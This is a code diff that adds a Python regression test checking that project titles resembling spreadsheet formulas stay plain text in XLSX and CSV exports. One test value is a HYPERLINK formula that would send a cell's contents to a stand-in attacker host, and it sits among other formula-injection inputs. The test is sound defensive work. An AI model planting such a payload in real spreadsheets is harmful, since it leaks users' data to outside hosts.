@@ -128,3 +128,21 @@ def test_sheet_names_are_valid_and_unique() -> None:
     assert names[0] == "A-B- -x--"
     assert all(len(n) <= 31 for n in names) and names[1] == pools[1].name[:31]
     assert names[2:] == ["Same", "same (2)", "Pool"]
+
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"map")'
+
+
+def test_a_title_that_looks_like_a_formula_stays_text_in_xlsx_and_csv() -> None:
+    """Issue 18: xlsxwriter turned strings starting with "=" into formulas, and the CSV kept them raw."""
+    titles = (EVIL, "+1+cmd", "-2+3", "@SUM(A1)", "\tHidden", "\rHidden", "http://evil.example/")
+    pool = replace(CITY, projects=tuple(AnnexProject(f"C{n}", title, 1_000, votes=n) for n, title in enumerate(titles)))
+    annex = replace(ANNEX, pools=(pool,))
+    sheet = zipfile.ZipFile(io.BytesIO(build_annex_xlsx(annex))).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<hyperlink" not in sheet
+    strings = zipfile.ZipFile(io.BytesIO(build_annex_xlsx(annex))).read("xl/sharedStrings.xml").decode()
+    assert "<t>=HYPERLINK(\"http://evil.example/?leak=\"&amp;B2,\"map\")</t>" in strings
+    rows = list(csv.reader(io.StringIO(build_annex_csv(annex).decode("utf-8-sig"))))
+    shown = [row[2] for row in rows[1:]]
+    assert shown == ["'" + t for t in titles[:6]] + ["http://evil.example/"]
+    assert [row[5] for row in rows[1:]] == [str(n) for n in range(len(titles))]  # numbers stay numbers
